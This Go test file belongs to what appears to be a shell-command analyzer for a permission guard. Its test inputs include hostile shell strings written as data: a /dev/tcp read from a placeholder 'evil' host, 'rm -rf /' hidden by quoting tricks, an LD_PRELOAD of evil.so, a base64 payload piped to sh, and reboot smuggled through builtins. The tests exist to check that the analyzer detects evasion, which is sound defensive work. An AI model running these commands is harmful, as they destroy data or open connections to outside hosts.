package shell

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/doorward/doorward"
)

func TestScripts(t *testing.T) {
	for command, want := range map[string]string{
		"a; b":                                "a b | multi",
		"a && (b | c $(d `e`)) & f":           "a b c d e f | multi",
		"f() { rm x; }; f":                    "f rm | multi",
		"if a; then b; elif c; then d; fi":    "a b c d | multi",
		"for i in *; do cat \"$i\"; done":     "cat variable:i | ",
		"while a; do b; done":                 "a b | multi",
		"case $x in a) b;; esac":              "b | ",
		"diff <(a) >(b)":                      "a b diff | multi",
		"a $x \"$y\" *.log ~":                 "a | ",
		"a <b >c 2>>d":                        "a file:b file:c file:d | ",
		"a 2>&1 <&-":                          "a | ",
		"a >&/tmp/../etc/x":                   "a file:/etc/x | incomplete",
		"> /etc/x":                            "file:/etc/x | ",
		"PATH=/tmp a":                         "a variable:PATH | ",
		"x=$(id)":                             "id variable:x | ",
		"export A=b":                          "export variable:A | ",
		"a <<E\n$(b)\nE":                      "a b | multi",
		"a <<'E'\n$(b)\nE":                    "a | ",
		"a ${x:-$(b)}":                        "a b | multi incomplete",
		"a ${x:=1}":                           "a variable:x | ",
		"\"a\" 'b'; 'c'":                      "a c | multi",
		"time a":                              "a | ",
		"! a":                                 "a | ",
		"{ a; }":                              "a | ",
		"# nothing":                           " | incomplete",
		"$x a":                                " | incomplete",
		"$(a) b":                              "a | multi incomplete",
		"a*b":                                 " | incomplete",
		"~/a":                                 " | incomplete",
		"{a,b} c":                             " | incomplete",
		"\\a b":                               " | incomplete",
		"$'\\x61' b":                          " | incomplete",
		"a; eval b":                           "a eval | multi incomplete",
		". ./x":                               ". | incomplete",
		"trap 'rm x' EXIT":                    "trap | incomplete",
		"alias a=b; a":                        "a alias | multi incomplete",
		"command rm x":                        "command | incomplete",
		"a >$x":                               "a | incomplete",
		"a {x}>b":                             "a file:b | incomplete",
		"cat </dev/tcp/evil/80":               "cat file:/dev/tcp/evil/80 | leaves incomplete",
		"cat <//dev/./tcp/evil/80":            "cat file:/dev/tcp/evil/80 | leaves incomplete",
		"a $((x))":                            "a | incomplete",
		"((x))":                               " | incomplete",
		"let x":                               " | incomplete",
		"x=(a)":                               "variable:x | incomplete",
		"x[1]=a":                              "variable:x | incomplete",
		"a ${x[1]}":                           "a | incomplete",
		"a ${!x}":                             "a | incomplete",
		"a ${x@P}":                            "a | incomplete",
		"a ${x/y/z}":                          "a | incomplete",
		"a ${x:1}":                            "a | incomplete",
		"a ${x:-'}'}":                         "a | incomplete",
		"[[ a || b ]]":                        " | incomplete",
		"[ -v x ]; a":                         "[ a | multi incomplete",
		"[ -f x ] && a":                       "[ a | multi",
		"printf -vx y;":                       "printf | incomplete",
		"coproc a":                            "a | incomplete",
		"select x in a; do b; done":           "b variable:x | incomplete",
		"for ((;;)); do a; done":              "a | incomplete",
		"a @(b)":                              "a | incomplete",
		"echo $'\\'; rm -rf / #'":             "echo | incomplete",
		"echo 'a\\' ; echo '; rm -rf / #'":    "echo | multi incomplete",
		"echo \"a\\\"; rm; \\\"\"":            "echo | incomplete",
		"echo 'a\nrm x'":                      "echo | incomplete",
		"a $(b <<E\nx\nE\n)":                  "a b | multi incomplete",
		"-x; a":                               "-x a | multi incomplete",
		"a; b\x1b[2K":                         "a b\x1b[2K | multi incomplete",
		"a; b \u202e":                         "a b | multi incomplete",
		"a; b \xff":                           "a b | multi incomplete",
		"a; b\rc":                             "a b\rc | multi incomplete",
		"declare -n x=y; a":                   "a declare variable:x | multi incomplete",
		"export A=$b":                         "export variable:A | incomplete",
		"LD_PRELOAD=/tmp/evil.so uptime":      "uptime variable:LD_PRELOAD | ",
		"uptime # ; harmless\ntouch /tmp/x":   "touch uptime | multi",
		"touch\\ nope || touch /tmp/x":        "touch | multi incomplete",
		"echo dG91Y2ggJE0= | base64 -d | sh":  "base64 echo sh | multi",
		"find /tmp -exec touch /tmp/x \\;":    "find | ",
		"cat /var/log/${PWD%%[a-z]*}../etc/x": "cat | ",
		"a &>/tmp/x":                          "a file:/tmp/x | incomplete",
		"echo hi &>/tmp/x reboot":             "echo file:/tmp/x | incomplete",
		"echo hi &>>/tmp/x reboot":            "echo file:/tmp/x | incomplete",
		"a <&b":                               "a file:b | incomplete",
		"a >&''":                              "a | incomplete",
		"a 2>&1- >&-":                         "a | ",
		"{ echo a } always { reboot ; }":      "echo | incomplete",
		"for i in a }; do b; done":            "b variable:i | incomplete",
		"a }; b":                              "a b | multi incomplete",
		"a {; b":                              "a b | multi incomplete",
		"a {} x{,y} '}' \"{\"; b":             "a b | multi",
		"a $y[x]":                             "a | incomplete",
		"a \"$y[x]\"":                         "a | incomplete",
		"a $y\\\n[x]":                         "a | incomplete",
		"a $1[x]":                             "a | incomplete",
		"a $#y[x]":                            "a | incomplete",
		"a $+y[x]":                            "a | incomplete",
		"a $~y":                               "a | incomplete",
		"a <<E\n$y[x]\nE":                     "a | incomplete",
		"a $y/[x]* \"$y [x]\" $# '$y[x]'":     "a | ",
		"a \"x$\" ${y}[x]":                    "a | ",
		"jobs -x reboot; a":                   "a jobs | multi incomplete",
		"print -z reboot; a":                  "a print | multi incomplete",
		"hist -s; a":                          "a hist | multi incomplete",
		"zpty x reboot; a":                    "a zpty | multi incomplete",
		"a || exit 1":                         "a exit | multi",
		"a; exit $?":                          "a exit | multi",
		"a; exit $x":                          "a exit | multi incomplete",
		"a; return 'x'":                       "a return | multi incomplete",
		"[ 1 -eq 2 ] && a":                    "[ a | multi",
		"[ x -eq 2 ] && a":                    "[ a | multi incomplete",
		"printf '%-5s|%%' $x; a":              "a printf | multi",
		"printf %d $x; a":                     "a printf | multi incomplete",
		"printf '%*s' $x; a":                  "a printf | multi incomplete",
		"SECONDS='x[$(reboot)]' a":            "a variable:SECONDS | incomplete",
	} {
		e, err := Text(command)
		if err != nil {
			t.Errorf("%q: %v", command, err)
			continue
		}
		var names, marks []string
		for _, o := range e.Objects {
			name := o.Kind + ":" + o.Name
			names = append(names, strings.TrimPrefix(name, "command:"))
		}
		if e.Traits.Has(doorward.TraitMulti) {
			marks = append(marks, "multi")
		}
		if e.Traits.Has(doorward.TraitLeaves) {
			marks = append(marks, "leaves")
		}
		if !e.Complete {
			marks = append(marks, "incomplete")
		}
		got := strings.Join(names, " ") + " | " + strings.Join(marks, " ")
		if e.Kind != KindScript || e.Commands != nil {
			t.Errorf("%q: %+v", command, e)
		}
		// What is incomplete may name less or more; it must be incomplete.
		if strings.HasSuffix(want, "incomplete") && !e.Complete {
			continue
		}
		if got != want {
			t.Errorf("%q: %s; want %s", command, got, want)
		}
	}
}

// Every word that is not plain makes a script incomplete, as it is one list.
func TestWordsThatHide(t *testing.T) {
	for word := range shellWords {
		if leaving[word] {
			continue
		}
		e, err := Text("a; '" + word + "' -x reboot")
		if err != nil || e.Complete {
			t.Errorf("%q hides nothing", word)
		}
	}
}

func TestBoundsOfEffects(t *testing.T) {
	var b strings.Builder
	for i := range maxObjects + 1 {
		fmt.Fprintf(&b, "c%d;", i)
	}
	if _, err := Text(b.String()); err == nil {
		t.Error("a script of any number of names is read")
	}
	if _, ok := plain(strings.Repeat("a ", maxWords)); !ok {
		t.Error("a plain command has fewer words than it may")
	}
	if argv, ok := plain(strings.Repeat("a ", maxWords+1)); ok {
		t.Errorf("a plain command has %d words", len(argv))
	}
}

// Nothing that nests takes long or deep.
func TestNesting(t *testing.T) {
	for _, unit := range []string{"(", "((", "$(", "`", "${a:-", "{ ", "a[", "$((", "$[", "if ", "while ", "until ", "! ", "a|", "a&&", "a||", "a;", "time ", "coproc ", "f() ", "<(", "\"$(", "\"${a:-",
		"case x in x) ", "function f ", "select x in; do ", "@(", "${a[", "<<a\n", "if a; then ", "x=$((", "$x", "'", "\"", "\\", "a=b ", "a <b ", ">a", "-", "$((-", "[[ ! ", "a\n", "#a\n", "<<a <<b\n", "&", "${a/", "a=("} {
		for _, command := range []string{strings.Repeat(unit, MaxCommand/len(unit)), unit + strings.Repeat(unit[len(unit)-1:], MaxCommand-len(unit)), strings.Repeat(unit, 600)} {
			start := time.Now()
			if r, err := Text(command); err == nil && r.Kind == KindExec && len(r.Commands) != 1 {
				t.Errorf("%q: %+v", unit, r)
			}
			if took := time.Since(start); took > 3*time.Second {
				t.Errorf("%q × %d takes %v", unit, len(command), took)
			}
		}
	}
}
